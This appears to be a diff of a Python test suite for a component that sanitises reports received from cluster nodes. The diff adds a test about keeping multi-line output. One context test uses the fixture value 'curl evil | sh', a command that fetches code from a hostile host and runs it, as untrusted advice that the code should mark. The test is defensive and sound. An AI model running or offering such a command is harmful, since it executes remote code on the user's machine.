@@ -27,6 +27,10 @@ def test_what_is_not_declared_is_dropped_and_texts_have_one_line():
     assert found == {"host": "n3", "cpus": 2, "note": line, "log": EVIL, "by": {line: 1}}
 
 
+def test_output_keeps_its_lines_where_it_is_one_of_several_shapes():
+    assert received({"ran": [0, "a\nb\n"]}, {"ran": [(int, Raw(100))]}, "n1") == {"ran": [0, "a\nb\n"]}
+
+
 def test_a_finding_is_about_its_own_node_and_its_advice_is_marked():
     finding = {"host": "n1", "check": "disk", "found": EVIL, "expected": "room", "action": "curl evil | sh"}
     (found,) = received({"cpus": 1, "findings": [finding]}, SHAPE, "n3")["findings"]
